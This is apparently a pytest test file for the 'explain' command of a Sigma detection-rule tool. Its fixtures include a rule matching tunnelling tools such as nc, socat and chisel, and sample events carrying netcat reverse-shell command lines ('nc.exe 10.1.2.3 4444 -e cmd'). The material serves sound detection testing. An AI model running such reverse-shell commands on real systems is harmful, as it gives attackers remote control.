"""``explain`` on the command line: the text at two widths, JSON, and its errors."""

import json
import re
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from tests.cli.conftest import frame
from tests.cli.test_messages import agrees

RULE = """\
title: Tunnel tools under other names
id: 66666666-4306-40b4-9596-6f590c81f073
level: high
logsource: {category: process_creation, product: windows}
detection:
  selection_img:
    - Image|endswith: ['\\nc.exe', '\\ncat.exe', '\\socat.exe', '\\chisel.exe', '\\ligolo.exe', '\\plink.exe', '\\ssh.exe']
    - OriginalFileName: nc.exe
  selection_cli:
    CommandLine|contains|all: [' -e ', cmd]
    CommandLine|re: '\\d{1,3}(\\.\\d{1,3}){3}'
  keywords: [beacon]
  filter_main_level:
    IntegrityLevel: [Low, Medium]
  filter_main_null:
    ParentImage: null
  condition: (all of selection_* or keywords) and not 1 of filter_main_*
"""


@pytest.fixture
def rule(tmp_path: Path) -> Path:
    """Give a rule with a bit of everything."""
    path = tmp_path / "tunnel.yml"
    path.write_text(RULE)
    return path


@pytest.fixture
def mixed(tmp_path: Path) -> Path:
    """Give four events: one that matches, one that is filtered, one of the Security log, one of another log source."""
    path = tmp_path / "mixed.parquet"
    long = "nc.exe 10.1.2.3 4444 -e cmd " + "A" * 200
    sysmon = frame([r"C:\Users\Public\nc.exe", r"C:\Tools\ncat.exe"]).with_columns(
        CommandLine=pl.Series([long, "ncat 10.1.2.3 -e cmd\n\x1b[2J"]),
        ParentImage=pl.Series([r"C:\Windows\explorer.exe", None]),
        IntegrityLevel=pl.Series(["High", "medium"]),
        originalfilename=pl.lit("nc.exe"),
    )
    security = pl.DataFrame({"Channel": ["Security"] * 2, "EventID": [4688, 4624], "NewProcessName": [r"C:\nc.exe", None]})
    security = security.with_columns(MandatoryLabel=pl.lit("S-1-16-8192"), Message=pl.lit("the beacon"))
    pl.concat([sysmon, security], how="diagonal").write_parquet(path)
    return path


@pytest.mark.parametrize("width", [80, 120])
@pytest.mark.parametrize("row", range(4))
def test_on_a_terminal(
    run: Any, rule: Path, mixed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, row: int, width: int
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.chdir(tmp_path)
    result = run("explain", rule.name, mixed.name, "--row", row)
    assert (result.status, result.err) == (0, "")
    assert "\x1b[1;32m✓\x1b[0m" in result.out
    text = re.sub(r"\x1b\[[0-9;]*m", "", result.out)
    assert "\x1b" not in text
    assert max(map(len, text.splitlines())) <= width
    agrees(f"explain-{row}-{width}", text, tmp_path)


def test_a_pipe_gets_whole_lines_and_json_all_values(run: Any, rule: Path, mixed: Path) -> None:
    text = run("explain", rule, mixed, "--row", "0").out
    assert "\x1b" not in text
    assert any(len(line) > 150 for line in text.splitlines())
    document = json.loads(run("explain", rule, mixed, "--row", "0", "--format", "json").out)
    assert document["matches"] is True
    assert document["file"] == str(mixed)
    assert "A" * 200 in json.dumps(document)


def test_a_compiled_file_explains_with_the_rule_s_words(run: Any, rule: Path, rules: Path, mixed: Path, tmp_path: Path) -> None:
    compiled = tmp_path / "rules.stc"
    run("compile", rules, rule, "-o", compiled)
    told = run("explain", compiled, mixed, "--row", "1", "--rule", "66666666")
    assert told.out == run("explain", rule, mixed, "--row", "1").out
    assert "all of selection_*" in told.out


def test_a_schema_and_a_log_source_that_are_said(run: Any, rule: Path, tmp_path: Path) -> None:
    path = tmp_path / "x.parquet"
    pl.DataFrame({"Image": ["x"]}).write_parquet(path)
    assert "every rule runs on every row, as asked" in run("explain", rule, path, "--row", "0", "--schema", "none").out
    told = run("explain", rule, path, "--row", "0", "--logsource", "category=dns_query,product=windows")
    assert "✗ log source: all rows are said to be product=windows,category=dns_query" in told.out


CASES: dict[str, tuple[int, tuple[str, ...]]] = {
    "explain-row-missing": (3, ("explain", "{rule}", "{mixed}", "--row", "4")),
    "explain-no-row": (3, ("explain", "{rule}", "{mixed}")),
    "explain-several-files": (3, ("explain", "{rule}", "{mixed}", "{events}", "--row", "0")),
    "explain-no-such-file": (3, ("explain", "{rule}", "{mixed}", "{events}", "--row", "0", "--file", "x.parquet")),
    "explain-empty-file": (3, ("explain", "{rule}", "{mixed}", "--row", "0", "--file", "")),
    "explain-several-rules": (3, ("explain", "{rules}", "{mixed}", "--row", "0")),
    "explain-no-such-rule": (3, ("explain", "{rules}", "{mixed}", "--row", "0", "--rule", "Whoamy")),
    "explain-waiting-rule": (3, ("explain", "{rules}/waiting.yml", "{mixed}", "--row", "0")),
    "explain-bad-rule": (2, ("explain", "{bad}", "{mixed}", "--row", "0")),
    "explain-not-recognised": (3, ("explain", "{rule}", "{tmp}/other.parquet", "--row", "0")),
}


@pytest.mark.parametrize("name", CASES)
def test_an_error_is_one_clear_message(
    name: str, run: Any, rule: Path, rules: Path, bad_rule: Path, mixed: Path, events: Path, tmp_path: Path
) -> None:
    pl.DataFrame({"Foo": ["x"]}).write_parquet(tmp_path / "other.parquet")
    status, arguments = CASES[name]
    places = {"events": events, "rules": rules, "bad": bad_rule, "tmp": tmp_path, "rule": rule, "mixed": mixed}
    result = run(*(argument.format(**places) for argument in arguments))
    assert "Traceback" not in result.err
    assert result.out == ""
    agrees(name, result.err, tmp_path)
    assert result.status == status


CONFIG = '[[inputs]]\nglob = "lake/*"\nschema = "none"\nlogsource = "category=process_creation,product=windows"\n'
PIPELINE = "name: to exe\ntransformations: [{type: field_name_mapping, mapping: {Image: exe}}]\n"


def test_the_configuration_and_pipelines_count(run: Any, rules: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "lake").mkdir()
    pl.DataFrame({"exe": [r"C:\t\nc.exe"], "Image": ["x"]}).write_parquet(tmp_path / "lake" / "edr.parquet")
    (tmp_path / "exe.yml").write_text(PIPELINE)
    (tmp_path / "sigtrawl.toml").write_text(CONFIG)
    monkeypatch.chdir(tmp_path)
    asked = ("explain", rules / "whoami.yml", "lake/edr.parquet", "--row", "0")
    told = run(*asked)
    assert "✗ row 0 of lake/edr.parquet does not match" in told.out
    assert "✓ log source: all rows are said to be product=windows,category=process_creation" in told.out
    assert "sigtrawl.toml" in told.err
    refused = run(*asked, "--no-config")
    assert (refused.status, "no schema mapping recognises" in refused.err) == (3, True)
    told = run("explain", rules / "netcat.yml", "lake/edr.parquet", "--row", "0", "-p", "exe.yml", "-q")
    assert (told.status, told.err) == (0, "")
    assert "✓ row 0 of lake/edr.parquet matches" in told.out
    assert r"✓ Image|endswith, any of: exe is 'C:\t\nc.exe'" in told.out
